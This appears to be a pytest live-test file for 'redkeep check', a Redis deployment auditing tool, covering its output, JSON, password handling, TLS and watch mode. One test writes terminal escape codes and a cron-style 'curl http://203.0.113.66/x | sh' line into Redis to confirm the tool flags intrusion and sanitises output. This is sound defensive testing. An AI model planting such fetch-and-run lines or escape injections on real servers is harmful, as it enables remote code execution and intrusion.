"""``redkeep check`` as a user runs it: healthy deployments, what it prints, its JSON, and how it ends."""

from __future__ import annotations

import signal
import subprocess
from collections.abc import Iterator
from contextlib import ExitStack
from pathlib import Path
from typing import Any

import pytest

from tests.cli import Redkeep
from tests.live.deployments import FOR_OTHERS, watched
from tests.live.servers import available, free_port, running, until
from tests.live.test_rules_access import tls_files
from tests.ports import free_block

pytestmark = pytest.mark.live

BINARY = available()[0]


@pytest.fixture
def run(tmp_path: Path) -> Redkeep:
    return Redkeep(tmp_path, environment={"HOME": str(tmp_path)})


@pytest.fixture(params=["standalone", "sentinel", "cluster"])
def healthy(request: pytest.FixtureRequest, run: Redkeep) -> Iterator[Redkeep]:
    """A deployment of each mode as ``apply`` makes it."""
    ports = free_block(10)
    run.write(
        f"name: well\nmode: {request.param}\nhosts: [local]\nport: {ports}\nsentinel_port: {ports + 7}\n"
        f"persistence: rdb+aof\nmaxmemory: 64MiB\n"
    )
    try:
        run("apply", "--yes").ok()
        yield run
    finally:
        run("destroy", "--yes", "--delete-data")


def worse_than_info(document: Any) -> list[Any]:
    return [f for f in document["findings"] if f["severity"] != "info"]


def test_a_healthy_deployment_has_no_errors_and_no_warnings(healthy: Redkeep) -> None:
    by_file = healthy("check", "--json").ok().json
    assert by_file["verdict"] == "ok"
    assert worse_than_info(by_file) == []
    urls = healthy("url", "--user", "admin", "--reveal", "--json").ok().json
    by_url = healthy("check", urls["urls"][-1], "--json").json
    reach_and_access = {
        "announce-",
        "bus-",
        "sentinel-ghost",
        "wrong-",
        "no-password",
        "weak-",
        "tls-",
        "signs-",
    }
    assert not [
        f for f in worse_than_info(by_url) if any(f["rule"].startswith(r) for r in reach_and_access)
    ], by_url
    assert by_url["nodes"] == by_file["nodes"]
    assert urls["password"] not in str(by_url)


def test_json_as_documented(run: Redkeep, tmp_path: Path) -> None:
    with running(BINARY, tmp_path / "a", f"{FOR_OTHERS}tcp-keepalive 0\n") as server:
        told = run("check", f"127.0.0.1:{server.port}", "--json")
        assert told.status == 3
        assert told.json["target"] == f"redis://127.0.0.1:{server.port}"
        assert told.json["verdict"] == "error"
        for finding in told.json["findings"]:
            assert set(finding) == {"rule", "severity", "subject", "evidence", "why", "fix"}
        assert {"no-password", "keepalive-off"} <= {f["rule"] for f in told.json["findings"]}


def test_text_names_errors_first_and_fits_the_terminal(run: Redkeep, tmp_path: Path) -> None:
    with running(BINARY, tmp_path / "a", f"{FOR_OTHERS}tcp-keepalive 0\n") as server:
        told = run("check", f"127.0.0.1:{server.port}")
        assert told.status == 3
        assert told.stdout.index("ERRORS") < told.stdout.index("no-password") < told.stdout.index("WARNINGS")
        assert max(map(len, told.stdout.splitlines())) <= 80


def test_names_from_servers_cannot_write_on_the_terminal(run: Redkeep, tmp_path: Path) -> None:
    with running(BINARY, tmp_path / "a") as server:
        server.client().set("\x1b[2J\x1b[31mroot", "\n\n* * * * * curl http://203.0.113.66/x | sh\n\n")
        told = run("check", f"127.0.0.1:{server.port}")
        assert "signs-of-intrusion" in told.stdout
        assert "\x1b" not in told.stdout


def test_from_a_server_it_finds_the_sentinels(run: Redkeep, tmp_path: Path) -> None:
    with (
        running(BINARY, tmp_path / "a") as server,
        watched(BINARY, tmp_path / "s1", server),
        watched(BINARY, tmp_path / "s2", server),
    ):
        told = run("check", f"redis://127.0.0.1:{server.port}", "--json")
        assert told.json["nodes"] == {"servers": 1, "sentinels": 2}


def test_of_several_that_a_sentinel_watches_one_is_looked_at(run: Redkeep, tmp_path: Path) -> None:
    with (
        running(BINARY, tmp_path / "a") as shop,
        running(BINARY, tmp_path / "b") as other,
        watched(
            BINARY, tmp_path / "s", shop, extra=f"sentinel monitor other 127.0.0.1 {other.port} 1\n"
        ) as sentinel,
    ):
        target = f"sentinel://127.0.0.1:{sentinel.port}"
        assert run("check", f"{target}/shop", "--json").json["nodes"] == {"servers": 1, "sentinels": 1}
        assert run("check", target, "--json").json["nodes"] == {"servers": 2, "sentinels": 1}
        run("check", f"{target}/shoe").error(2, "no Sentinel watches shoe", "they watch other, shop")


def test_the_password_comes_from_where_people_have_it(run: Redkeep, tmp_path: Path) -> None:
    secret = "a4f09c1be77d4c55b12f8e02d9c3a6e1"
    with running(BINARY, tmp_path / "a", f"requirepass {secret}\n") as server:
        target = f"127.0.0.1:{server.port}"
        (tmp_path / "secret").write_text(f"{secret}\n")
        for arguments, env in (
            ((f"redis://:{secret}@{target}",), {}),
            ((target,), {"REDKEEP_PASSWORD": secret}),
            ((target,), {"REDISCLI_AUTH": secret}),
            ((target, "--password-file", str(tmp_path / "secret")), {}),
        ):
            told = run("check", *arguments, "--json", env=env)
            assert told.json["nodes"]["servers"] == 1, told.everything
            assert secret not in told.everything.replace(f"redis://:{secret}@", "")
        run("check", target).error(1, "not let in", target, "REDKEEP_PASSWORD")
        run("check", target, env={"REDKEEP_PASSWORD": "wrong"}).error(1, "not let in", "WRONGPASS")


def test_wrong_use(run: Redkeep, tmp_path: Path) -> None:
    nowhere = free_port()
    run("check").error(2, "no redkeep.yaml here")
    run("check", "http://127.0.0.1").error(2, "not a target", "redis://HOST:PORT")
    run("check", f"127.0.0.1:{nowhere}").error(1, "refused", str(nowhere))
    run("check", "127.0.0.1", "-f", "redkeep.yaml").error(2, "a target and a deployment file")
    run("check", "127.0.0.1", "--watch", "1", "--json").error(2, "--watch")
    run("check", "127.0.0.1", "--password-file", str(tmp_path / "none")).error(2, "cannot read the password")
    run("check", "127.0.0.1", "--ca", str(tmp_path / "none")).error(2, "no usable CA file")
    run("check", "127.0.0.1", "--cert", str(tmp_path / "none")).error(2, "no usable certificate and key")
    run("check", "127.0.0.1", "--key", str(tmp_path / "none")).error(
        2, "a key without its certificate", "--cert"
    )
    run.write("mode: standalone\nhosts: [local]\n")
    run("check").error(2, "nothing was deployed", "redkeep apply")


def test_servers_that_ask_for_a_certificate(run: Redkeep, tmp_path: Path) -> None:
    """The engines' default, where TLS is on."""
    encrypted = [b for b in available() if b.engine.tls]
    if not encrypted:
        pytest.skip("no server with TLS here")
    folder = tmp_path / "tls"
    text = f"{tls_files(folder, 'a.example')}tls-auth-clients yes\ntls-replication yes\n"
    with (
        running(encrypted[0], folder, text, tls=True) as primary,
        running(encrypted[0], tmp_path / "r", f"{text}replicaof 127.0.0.1 {primary.port}\n", tls=True),
    ):
        target, ca = f"rediss://127.0.0.1:{primary.port}", ("--ca", str(folder / "ca.crt"))
        run("check", target, *ca).error(1, "a client's certificate (--cert, --key)", str(primary.port))
        shown = (*ca, "--cert", str(folder / "host.crt"), "--key", str(folder / "host.key"))
        until(lambda: run("check", target, *shown, "--json").json["nodes"] == {"servers": 2, "sentinels": 0})
        both = folder / "both.pem"
        both.write_bytes((folder / "host.crt").read_bytes() + (folder / "host.key").read_bytes())
        told = run("check", target, *ca, "--cert", str(both), "--json").json
        assert told["nodes"]["servers"] == 2
        assert not [
            f for f in told["findings"] if f["rule"] in ("not-checked", "signs-of-intrusion", "tls-mismatch")
        ]
        run("init", "--from", target, *shown).ok()
        assert run("check", *shown, "--json").json["nodes"]["servers"] == 2
        run("status", *shown).ok()


def test_watching_tells_what_changes(run: Redkeep, tmp_path: Path) -> None:
    """All findings once, then what comes and goes; a look that fails is not the end, Ctrl-C is."""
    port = free_port()
    with ExitStack() as stack:
        server = stack.enter_context(running(BINARY, tmp_path / "x", port=port))
        command = run.argv("check", f"127.0.0.1:{port}", "--watch", "0.3")
        watching = subprocess.Popen(
            command,
            cwd=tmp_path,
            env=run.variables(),
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        stack.callback(watching.kill)
        assert watching.stdout
        told: list[str] = []

        def until_told(words: str) -> str:
            for line in watching.stdout or ():
                told.append(line)
                if words in line:
                    return line
            raise AssertionError("".join(told))

        until_told("redkeep explain RULE")
        assert "keepalive-off" not in "".join(told)
        server.client().config_set("tcp-keepalive", 0)
        until_told("1 new, 0 gone. ")
        until_told(f"keepalive-off  127.0.0.1:{port}")
        server.client().config_set("tcp-keepalive", 300)
        until_told(f"gone: keepalive-off  127.0.0.1:{port}")
        assert "no change. " in until_told("no change. ")
        server.process.terminate()
        server.process.wait(10)
        until_told("connection refused")
        again = stack.enter_context(running(BINARY, tmp_path / "again", port=port))
        until_told("no change. ")
        assert again.client().ping()
        watching.send_signal(signal.SIGINT)
        watching.communicate(timeout=60)
        assert watching.returncode == 3
